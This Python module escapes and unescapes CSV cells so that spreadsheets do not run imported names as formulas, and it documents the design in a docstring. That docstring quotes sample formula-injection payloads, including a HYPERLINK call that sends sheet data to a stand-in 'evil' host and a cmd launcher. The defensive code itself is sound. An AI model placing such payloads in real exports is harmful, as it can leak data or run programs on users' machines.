"""CSV cells a spreadsheet would run as a formula are neutralised when vskg writes them, and restored when read back.

Why: the CSV files vskg writes for people (Archi's ``elements.csv`` / ``relations.csv`` / ``properties.csv`` from
``vskg archimate-csv export-csv``, and the link review file of ``vskg link propose``) carry names and texts that came
from imported models, tables and pulled repositories. Opened in Excel or LibreOffice, a cell such as
``=HYPERLINK("http://evil/?"&A1,"click")``, ``+cmd|' /C calc'!A0`` or ``@SUM(1+1)*cmd|...`` is a formula: it can
leak the sheet's data or start a program (CSV or formula injection).

The rule (the usual defence, as OWASP describes it):

- **On export** a cell that starts with ``=``, ``+``, ``-``, ``@``, a TAB or a CR, possibly after any number of
  apostrophes, gets one more apostrophe in front. A spreadsheet shows such a cell as text, never evaluates it.
  Cells that are only a number with signs in front (``-5``, ``+3.5``, ``++``, ``--``: Archi's influence strengths)
  are left alone: a spreadsheet reads them as a number or as text, and there is nothing in them to run. This
  keeps Archi's own files, and vskg's export of them, byte for byte the same.
- **On import of vskg's own CSV** (``archimate-csv import-csv``, ``vskg link load``) exactly one leading apostrophe
  is removed from a cell when what follows the apostrophes is one of those characters.

The XLSX download of query results (``?format=xlsx``, `vskg.spreadsheet`) guards its text cells with ``escape``
too.

So ``unescape(escape(text)) == text`` for every string: a name ``=x`` is written ``'=x`` and read back ``=x``, a
name ``'=x`` is written ``''=x`` and read back ``'=x``, and ordinary text (anything not starting with an apostrophe
or a trigger) is never touched either way.

Not altered: the SPARQL results CSV of ``/sparql`` (``text/csv``, W3C SPARQL 1.1 Query Results CSV). It is a data
interchange format with an exact definition that other SPARQL software parses; an apostrophe there would change the
value of a result for every program that reads it, and the format has no way to say it was added. Nor does
``vskg import-table`` unescape: it reads other people's spreadsheets (CSV on the Web), where a leading apostrophe
is data the author wrote.
"""

from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r")
APOSTROPHE = "'"
# Only signs and an unsigned decimal number: a spreadsheet reads this as a number (or as text), never runs it.
_SIGNED_NUMBER = re.compile(r"[+-]+(?:\d+(?:\.\d+)?)?")


def needs_escape(cell: str) -> bool:
    """True when a spreadsheet could take ``cell`` (after any leading apostrophes) for a formula."""
    rest = cell.lstrip(APOSTROPHE)
    if not rest or rest[0] not in TRIGGERS:
        return False
    return rest != cell or _SIGNED_NUMBER.fullmatch(cell) is None


def escape(cell: str) -> str:
    """The cell as vskg writes it to a CSV file meant for spreadsheets (one apostrophe added where needed)."""
    return APOSTROPHE + cell if needs_escape(cell) else cell


def unescape(cell: str) -> str:
    """The cell as it was before ``escape``: one leading apostrophe removed before a formula character."""
    if cell.startswith(APOSTROPHE) and cell.lstrip(APOSTROPHE)[:1] in TRIGGERS:
        return cell[1:]
    return cell


def escape_row(row: list[str]) -> list[str]:
    return [escape(cell) for cell in row]


def unescape_row(row: list[str]) -> list[str]:
    return [unescape(cell) for cell in row]
